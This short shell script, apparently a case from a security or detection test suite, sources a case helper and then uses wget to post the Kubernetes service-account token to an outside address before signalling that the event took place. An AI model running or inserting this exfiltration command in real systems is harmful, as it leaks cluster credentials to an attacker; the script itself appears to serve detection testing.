#!/bin/sh
. /opt/case/case.sh

wget -q -O /dev/null --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.10/t
took_place
